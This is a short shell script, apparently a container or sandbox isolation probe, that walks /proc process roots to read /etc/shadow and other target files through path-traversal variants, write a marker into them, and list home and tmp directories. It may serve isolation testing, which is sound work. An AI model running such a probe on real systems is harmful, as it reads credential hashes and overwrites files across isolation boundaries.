# Goes through the roots of all processes it can see, and of those it is told.
for process in self thread-self 1 2 "$VICTIM" "$RUNTIME" "$PPID" $(ls /proc | grep '^[0-9]*$'); do
    for path in "$KEY" "$NEIGHBOUR" "$JOURNAL" "$LAYER" /etc/shadow; do
        cat "/proc/$process/root$path" "/proc/$process/root/../..$path" "/proc/$process/task/$process/root$path"
        echo "$MARK" > "/proc/$process/root$path"
    done
    ls "/proc/$process/root/home" "/proc/$process/root/tmp"
done 2>&1
echo tried
